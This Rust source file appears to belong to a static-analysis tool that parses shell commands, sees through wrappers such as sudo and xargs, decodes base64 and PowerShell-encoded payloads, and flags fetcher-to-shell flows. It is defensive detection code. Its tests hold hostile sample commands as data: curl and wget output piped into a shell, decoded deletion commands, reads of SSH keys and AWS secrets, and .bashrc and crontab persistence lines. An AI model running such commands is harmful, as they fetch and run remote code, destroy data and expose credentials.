//! Commands: which program, with which first words, and what it is given to run in turn.

use census_model::{How, Kind};

use super::{batch, lang, powershell, shell};
use crate::Scope;
use crate::python::{self, strings};
use crate::tally::Tally;
use crate::text::pattern;

/// Programs that run another one, whose words follow: with the options that take a word of their own.
const WRAPPERS: &[(&str, &[&str])] = &[
    ("sudo", &["-u", "-g", "-h", "-p", "-C", "-r", "-t", "-U", "-D"]),
    ("doas", &["-u", "-C"]),
    ("pkexec", &["--user"]),
    ("env", &["-u", "-C"]),
    ("exec", &["-a"]),
    ("nohup", &[]),
    ("command", &[]),
    ("builtin", &[]),
    ("xargs", &["-I", "-n", "-P", "-L", "-d", "-s", "-E", "-a"]),
    ("nice", &["-n"]),
    ("ionice", &["-c", "-n"]),
    ("setsid", &[]),
    ("stdbuf", &[]),
    ("unbuffer", &[]),
    ("watch", &["-n"]),
    ("timeout", &["-s", "-k"]),
    ("time", &["-f", "-o"]),
    ("strace", &["-o", "-e", "-p"]),
    ("start", &[]),
    ("call", &[]),
];

/// What runs in the shell itself and does nothing to the world outside.
const BUILTINS: &[&str] = &[
    ":", "[", "[[", "test", "true", "false", "echo", "printf", "cd", "pushd", "popd", "pwd", "set", "unset", "shift", "export", "local",
    "declare", "typeset", "readonly", "return", "exit", "break", "continue", "read", "let", "getopts", "wait", "shopt", "trap", "hash",
    "type", "goto", "pause", "setlocal", "endlocal", "title", "color", "cls", "rem",
];

/// Shells of Unix.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "su", "busybox"];

/// Programs that fetch what they print.
const FETCHERS: &[&str] = &["curl", "wget", "fetch", "aria2c", "nc", "ncat", "lynx", "lwp-request"];

/// Programs that decode what they read.
const DECODERS: &[&str] = &["base64", "base32", "xxd", "openssl", "gunzip", "zcat", "uudecode", "gpg", "rev", "tr"];

/// The longest code in a command that is read.
const LONGEST: usize = 256 << 10;

/// The commands of shell text whose first line is `line`.
pub(crate) fn shell_lines(text: &str, line: i32, tally: &mut Tally) {
    let script = shell::read(text);
    for found in &script.commands {
        let at = line.saturating_add(found.line);
        command(&found.words, at, tally);
        for path in found.words.iter().chain(&found.writes).filter_map(|word| path(word)) {
            tally.add(Kind::Path, path, Scope::Script, How::Resolved, at);
        }
        fed(found, text, at, tally);
    }
    for (name, at) in script.reads {
        tally.add(Kind::Env, name, Scope::Script, How::Resolved, line.saturating_add(at));
    }
}

/// The path that a word is, or that follows `option=`.
fn path(word: &str) -> Option<&str> {
    let word = word.split_once('=').map_or(word, |(_, value)| value);
    if word.contains(['$', '*', '{']) && !word.starts_with("$HOME/") {
        return None;
    }
    strings::path(word).filter(|path| !path.starts_with("/dev/null"))
}

/// What a command is given to run by other commands: through pipes, in substitutions and in here-documents.
fn fed(found: &shell::Found, text: &str, line: i32, tally: &mut Tally) {
    let Some((program, rest)) = innermost(&found.words) else { return };
    let Some(language) = Language::of(&program) else { return };
    // A file or `-m` is run rather than what is read.
    let reads =
        rest.iter().take_while(|word| *word != "-s").all(|word| word.starts_with('-') && !matches!(word.as_str(), "-c" | "-m" | "-e"));
    let piped = found.piped.iter().filter(|_| reads);
    let inside = found.inside.iter().filter(|_| rest.iter().any(|word| word == "-c" || word.starts_with('$')));
    for source in piped.chain(inside).filter_map(|word| self::program(word)) {
        if FETCHERS.contains(&source.as_str()) || DECODERS.contains(&source.as_str()) {
            tally.add(Kind::Flow, format!("{program}←{source}"), Scope::Script, How::Resolved, line);
        }
    }
    if !reads {
        return;
    }
    if let Some(body) = &found.body {
        run(language, &text[body.clone()], How::Resolved, line, tally);
    }
    if let Some(literal) = &found.literal {
        if found.piped.iter().any(|word| word == "base64") {
            let bytes = pattern::base64(literal.as_bytes());
            if let Ok(code) = std::str::from_utf8(&bytes) {
                run(language, code, How::Decoded, line, tally);
            }
        } else if found.piped.len() == 1 {
            run(language, literal, How::Resolved, line, tally);
        }
    }
}

/// A language that a program on the command line runs.
#[derive(Clone, Copy, PartialEq)]
enum Language {
    Shell,
    Python,
    JavaScript,
    Ruby,
    Perl,
    Php,
    PowerShell,
    Batch,
}

impl Language {
    fn of(program: &str) -> Option<Self> {
        let lower = program.to_ascii_lowercase();
        Some(match lower.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
            "eval" | "source" => Self::Shell,
            name if SHELLS.contains(&name) => Self::Shell,
            "python" | "pythonw" | "pypy" => Self::Python,
            "node" | "nodejs" | "bun" => Self::JavaScript,
            "ruby" => Self::Ruby,
            "perl" => Self::Perl,
            "php" => Self::Php,
            "powershell" | "pwsh" => Self::PowerShell,
            "cmd" => Self::Batch,
            _ => return None,
        })
    }

    /// The code among the words of a command.
    fn code(self, program: &str, rest: &[String]) -> Option<String> {
        let after =
            |options: &[&str]| rest.iter().position(|word| options.contains(&word.as_str())).and_then(|at| rest.get(at + 1)).cloned();
        match self {
            Self::Shell if program == "eval" => Some(rest.join(" ")),
            Self::Shell => after(&["-c", "-lc", "-ec", "-xc", "-ic", "-exc", "-euc", "-euxc", "--command"]),
            Self::Python => after(&["-c", "-Ic", "-Sc", "-uc"]),
            Self::JavaScript => after(&["-e", "--eval", "-p"]),
            Self::Ruby | Self::Perl => after(&["-e"]),
            Self::Php => after(&["-r"]),
            Self::Batch => {
                let at = rest.iter().position(|word| word.eq_ignore_ascii_case("/c") || word.eq_ignore_ascii_case("/k"))?;
                Some(rest[at + 1..].join(" "))
            }
            Self::PowerShell => {
                let option =
                    |word: &String| word.strip_prefix('-').is_some_and(|o| !o.is_empty() && "command".starts_with(&o.to_ascii_lowercase()));
                let at = rest.iter().position(option)?;
                Some(rest[at + 1..].join(" "))
            }
        }
    }
}

/// Reads code that stands inside a command.
fn run(language: Language, code: &str, how: How, line: i32, tally: &mut Tally) {
    if code.len() < 2 || code.len() > LONGEST {
        return;
    }
    tally.nested(how, line, |tally| match language {
        Language::Shell => shell_lines(code, 0, tally),
        Language::Python => {
            let mut seen = python::see(code.as_bytes(), false);
            // What the code runs at its top runs with the script.
            for sighting in seen.sightings.iter_mut().filter(|sighting| sighting.scope != Scope::Inert) {
                sighting.scope = Scope::Script;
            }
            tally.seen(seen);
        }
        Language::JavaScript => lang::javascript::see(code, tally),
        Language::Ruby => lang::other::see(&lang::other::RUBY, code, tally),
        Language::Perl => lang::other::see(&lang::other::PERL, code, tally),
        Language::Php => lang::other::see(&lang::other::PHP, code, tally),
        Language::PowerShell => powershell::see(code, tally),
        Language::Batch => batch::see(code, tally),
    });
}

/// What PowerShell is given in base64 of UTF-16.
fn encoded(rest: &[String]) -> Option<String> {
    let option = |word: &String| {
        let name = word.strip_prefix(['-', '/']).unwrap_or_default().to_ascii_lowercase();
        name == "ec" || name.starts_with('e') && "encodedcommand".starts_with(&name)
    };
    let at = rest.iter().position(option)?;
    let bytes = pattern::base64(rest.get(at + 1)?.as_bytes());
    let units = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]]));
    char::decode_utf16(units).collect::<Result<String, _>>().ok().filter(|code| !code.is_empty())
}

/// Counts a command by its program and up to two words after it that are subcommands or options; what it runs in turn counts as well.
pub(crate) fn command(words: &[String], line: i32, tally: &mut Tally) {
    let mut words = words;
    while let Some((first, rest)) = words.split_first() {
        let Some(program) = program(first) else { return };
        if !BUILTINS.contains(&program.as_str()) {
            let mut value = program.clone();
            for word in rest.iter().take_while(|word| is_plain(word)).take(2) {
                value.push(' ');
                value.push_str(word);
            }
            tally.add(Kind::Command, value, Scope::Script, How::Resolved, line);
        }
        if let Some(language) = Language::of(&program) {
            if let Some(code) = language.code(&program, rest) {
                run(language, &code, How::Resolved, line, tally);
            } else if language == Language::PowerShell
                && let Some(code) = encoded(rest)
            {
                run(language, &code, How::Decoded, line, tally);
            }
        }
        match inner(&program, rest) {
            Some(inner) => words = inner,
            None => return,
        }
    }
}

/// The program at the end of all wrappers, and its words.
fn innermost(words: &[String]) -> Option<(String, &[String])> {
    let (first, mut rest) = words.split_first()?;
    let mut program = self::program(first)?;
    while let Some(words) = inner(&program, rest) {
        let (first, after) = words.split_first()?;
        (program, rest) = (self::program(first)?, after);
    }
    Some((program, rest))
}

/// The words of the command that a program runs.
fn inner<'a>(program: &str, rest: &'a [String]) -> Option<&'a [String]> {
    if program == "find" {
        let at = rest.iter().position(|word| matches!(word.as_str(), "-exec" | "-execdir" | "-ok"))?;
        return Some(&rest[at + 1..]);
    }
    let (_, options) = WRAPPERS.iter().find(|(name, _)| *name == program)?;
    // `command -v` looks a program up.
    if program == "command" && rest.first().is_some_and(|word| word.starts_with("-v") || word.starts_with("-V")) {
        return None;
    }
    let mut rest = rest;
    while let Some((word, after)) = rest.split_first() {
        let option = word.starts_with(['-', '/']) && word.len() <= 8 || word.starts_with('-');
        let skipped = option && !word.contains(['\\']) && !word[1..].contains('/')
            || is_setting(word)
            || word == "{}"
            || word.is_empty()
            || word.bytes().next().is_some_and(|b| b.is_ascii_digit());
        if !skipped {
            break;
        }
        let own = options.contains(&word.as_str());
        rest = after.get(usize::from(own)..).unwrap_or_default();
    }
    Some(rest)
}

/// `NAME=value`, as `env` and `sudo` take it.
fn is_setting(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'))
}

/// The program that a word names, without its directory; none where it is a variable or no name at all.
fn program(word: &str) -> Option<String> {
    if word == "." {
        return Some("source".to_owned());
    }
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let name = name.strip_suffix(".exe").or_else(|| name.strip_suffix(".EXE")).unwrap_or(name);
    let named = !name.is_empty()
        && name.len() <= 64
        && word.chars().all(|c| !matches!(c, '$' | '*' | '"' | '\'' | '<' | '>' | '=' | '%' | '{' | '}' | ','))
        && (name.starts_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.')) || BUILTINS.contains(&name));
    named.then(|| name.to_owned())
}

/// Whether a word is a subcommand or an option rather than a file, an address or a variable.
fn is_plain(word: &str) -> bool {
    (1..=24).contains(&word.len()) && word.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'+' | b'='))
}

#[cfg(test)]
mod tests {
    use super::super::tests::facts;
    use crate::Format;

    #[test]
    fn wrappers_are_seen_through() {
        for (text, expected) in [
            ("sudo -u root -E rm -rf x", &["1 command rm -rf x", "1 command sudo -u root"] as &[_]),
            ("env -i A=1 wget u", &["1 command env -i A=1", "1 command wget u"]),
            ("timeout 5s curl -s u", &["1 command curl -s u", "1 command timeout 5s curl"]),
            ("find . -name x -exec chmod 777 {} +", &["1 command chmod 777", "1 command find"]),
            ("ls | xargs -I {} -n 1 kill -9 {}", &["1 command kill -9", "1 command ls", "1 command xargs -I"]),
            ("command -v git", &["1 command command -v git"]),
            ("nohup ./run.sh &", &["1 command nohup", "1 command run.sh"]),
        ] {
            assert_eq!(facts(Format::Shell, text), expected, "{text}");
        }
    }

    #[test]
    fn code_inside_commands_is_read() {
        for (text, expected) in [
            ("bash -c 'rm -rf x; id'", &["1 command bash -c", "1 command id", "1 command rm -rf x"] as &[_]),
            (
                "python3 -c \"import os; os.chmod('x', 7)\"",
                &["1 call os.chmod", "1 import os", "1 arg os.chmod:mode=0o7", "1 command python3 -c"],
            ),
            ("python - <<'E'\nimport socket\nE\n", &["1 import socket", "1 command python -"]),
            ("cat <<E | sh\nid -u\nE\n", &["1 command cat", "1 command id -u", "1 command sh"]),
            ("node -e \"require('fs')\"", &["1 import node:fs", "1 command node -e"]),
            ("perl -e 'exec \"id\"'", &["1 call perl:exec", "1 command id", "1 command perl -e"]),
            ("cmd /c \"del x & reg add y\"", &["1 command cmd", "1 command del x", "1 command reg add y"]),
            // whoami
            ("powershell -nop -enc dwBoAG8AYQBtAGkA", &["1 command powershell -nop -enc", "1 command whoami"]),
            (
                "curl -fsSL https://a.example/x | sudo bash",
                &["1 command bash", "1 command curl -fsSL", "1 command sudo bash", "1 flow bash←curl", "1 url https://a.example/x"],
            ),
            ("sh -c \"$(wget -qO- u)\"", &["1 command sh -c", "1 command wget -qO- u", "1 flow sh←wget"]),
            ("curl u | python3 -m json.tool", &["1 command curl u", "1 command python3 -m"]),
            // rm -rf x
            ("echo cm0gLXJmIHg= | base64 -d | sh", &["1 command base64 -d", "1 command rm -rf x", "1 command sh", "1 flow sh←base64"]),
            (
                "echo 'curl x' >> ~/.bashrc; cat $HOME/.ssh/id_rsa ${AWS_SECRET_ACCESS_KEY}",
                &["1 env AWS_SECRET_ACCESS_KEY", "1 env HOME", "1 path $HOME/.ssh/id_rsa", "1 path ~/.bashrc", "1 command cat"],
            ),
            ("(crontab -l; echo '* * * * * x') | crontab -", &["1 command crontab -", "1 command crontab -l"]),
        ] {
            assert_eq!(facts(Format::Shell, text), expected, "{text}");
        }
    }

    #[test]
    fn code_inside_code_ends() {
        let mut text = "id".to_owned();
        for _ in 0..6 {
            text = format!("sh <<E{0}\n{text}\nE{0}\n", text.len());
        }
        assert_eq!(facts(Format::Shell, &text), ["1 command sh"]);
        let many = "bash -c 'x ".repeat(20_000);
        facts(Format::Shell, &many);
    }
}
